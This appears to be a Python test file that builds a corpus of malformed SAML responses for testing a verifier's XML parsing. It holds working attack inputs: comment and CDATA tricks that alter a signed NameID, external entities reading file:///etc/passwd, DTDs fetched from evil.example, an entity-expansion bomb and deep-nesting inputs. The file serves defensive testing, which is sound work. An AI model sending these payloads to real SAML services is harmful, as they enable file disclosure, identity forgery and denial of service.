"""Documents that are not plain XML, with what parsers have stumbled over."""

from saml_cases_signatures import evil
from saml_messages import RESPONSE


def xml_cases(corpus):
    sign, add = corpus.signer.sign, corpus.add
    good = sign(RESPONSE)
    name = "alice@acme.example</NameID>"
    inside = lambda markup: good.replace(name, f"alice@acme.example{markup}.evil.example</NameID>")
    harmless = lambda markup: good.replace("<samlp:Status>", f"{markup}<samlp:Status>")

    signed_long = sign(RESPONSE.replace(name, "alice@acme.example.evil.example</NameID>"))
    add("markup-comment-in-name", "markup", signed_long.replace("example.evil", "example<!---->.evil"))
    add("markup-comment", "markup", harmless("<!-- comment -->"))
    add("markup-comment-before", "markup", f"<!-- comment -->{good}")
    add("markup-comment-after", "markup", f"{good}<!-- comment -->")
    add("markup-instruction-in-name", "markup", inside("<?a b?>"))
    add("markup-instruction", "markup", harmless("<?a b?>"))
    add("markup-instruction-before", "markup", f"<?a b?>{good}")
    add("markup-cdata-in-name", "markup", signed_long.replace("example.evil", "example<![CDATA[.]]>evil"))
    add("markup-comment-in-digest", "markup", good.replace("<DigestValue>", "<DigestValue><!---->"))
    add("markup-late-declaration", "markup", f'\n<?xml version="1.0"?>{good}')
    add("doctype", "doctype", f"<!DOCTYPE Response>{good}")
    add("doctype-entity", "doctype", f'<!DOCTYPE r [<!ENTITY a "alice">]>{good.replace(name, "&a;@acme.example</NameID>")}')
    add("doctype-external", "doctype", f'<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>{good.replace(name, "&a;</NameID>")}')
    add("doctype-parameter", "doctype", f'<!DOCTYPE r [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>{good}')
    add("doctype-system", "doctype", f'<!DOCTYPE r SYSTEM "https://evil.example/a.dtd">{good}')
    bomb = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    add("doctype-bomb", "doctype", f'<!DOCTYPE r [<!ENTITY e0 "ha">{bomb}]>{good.replace(name, "&e9;</NameID>")}')
    ids = "<!ATTLIST Assertion AnyName ID #IMPLIED>"
    add("doctype-attribute-list", "doctype", f"<!DOCTYPE r [{ids}]>{good}")
    add("entity-unknown", "not-xml", good.replace(name, "&nbsp;</NameID>"))
    add("deep-20000", "too-complex", good.replace("<samlp:Status>", f"<samlp:Extensions>{'<a>' * 20000}{'</a>' * 20000}</samlp:Extensions><samlp:Status>"))
    add("deep-65", "too-complex", sign(RESPONSE.replace("<samlp:Status>", f"<samlp:Extensions>{'<a>' * 63}{'</a>' * 63}</samlp:Extensions><samlp:Status>")))
    many = lambda one, count: "".join(one.format(number) for number in range(count))
    add("complex-attributes", "too-complex", good.replace("<samlp:Status>", '<samlp:Status' + many(' a{}=""', 65) + ">"))
    add("complex-namespaces", "too-complex", good.replace("<samlp:Status>", '<samlp:Status' + many(' xmlns:n{}="u"', 64) + ">"))
    add("complex-namespaces-inside", "too-complex", good.replace("<samlp:Status>", many('<samlp:Extensions xmlns:n{}="u">', 60) + many(
        '<a xmlns:m{}="u"/>', 9) + "".join(f'<b xmlns:k{n}="u">' for n in range(4)) + "</b>" * 4 + "</samlp:Extensions>" * 60 + "<samlp:Status>"))
    add("deep-unclosed", "too-complex", "<a>" * 40000)
    add("encoding-utf16", "encoding", good.encode("utf-16"))
    add("encoding-utf16-declared", "encoding", f'<?xml version="1.0" encoding="UTF-16"?>{good}')
    add("encoding-latin-declared", "encoding", f'<?xml version="1.0" encoding="ISO-8859-1"?>{good}')
    add("encoding-utf7-declared", "encoding", f'<?xml version="1.0" encoding="UTF-7"?>{good}')
    add("encoding-utf16-without-mark", "too-complex", good.encode("utf-16-be"))
    add("encoding-broken", "encoding", good.replace("Alice", "Alice\udcff").encode("utf-8", "surrogateescape"))
    add("encoding-overlong", "encoding", good.encode().replace(b"Alice", b"\xc1\x81lice"))
    add("xml-truncated", "not-xml", good[:-20])
    add("xml-two-roots", "not-xml", good + evil(good))
    add("xml-trailing-text", "not-xml", good + "mallory")
    add("xml-zero", "not-xml", good.replace("Alice", "Alice\0"))
    add("xml-zero-reference", "not-xml", good.replace("Alice", "Alice&#0;"))
    add("xml-prefix-unknown", "not-xml", good.replace("<Conditions ", "<b:Conditions "))
    add("xml-attribute-twice", "not-xml", good.replace('ID="_a1"', 'ID="_a1" ID="_a2"', 1))
    add("xml-attribute-twice-by-prefix", "not-xml", good.replace('<AttributeStatement>', '<AttributeStatement xmlns:a="urn:a" xmlns:b="urn:a" a:c="" b:c="">'))
    add("xml-tag-in-attribute", "not-xml", good.replace('SessionIndex="_s1"', 'SessionIndex="<!-- -->"'))
    add("xml-html", "one-response", "<html><body>sign in</body></html>")
    add("xml-text", "not-xml", "alice")
    add("xml-nodes", "signature", good.replace("<AttributeValue>Alice", f"<AttributeValue>{'<a/>' * 30000}Alice"))
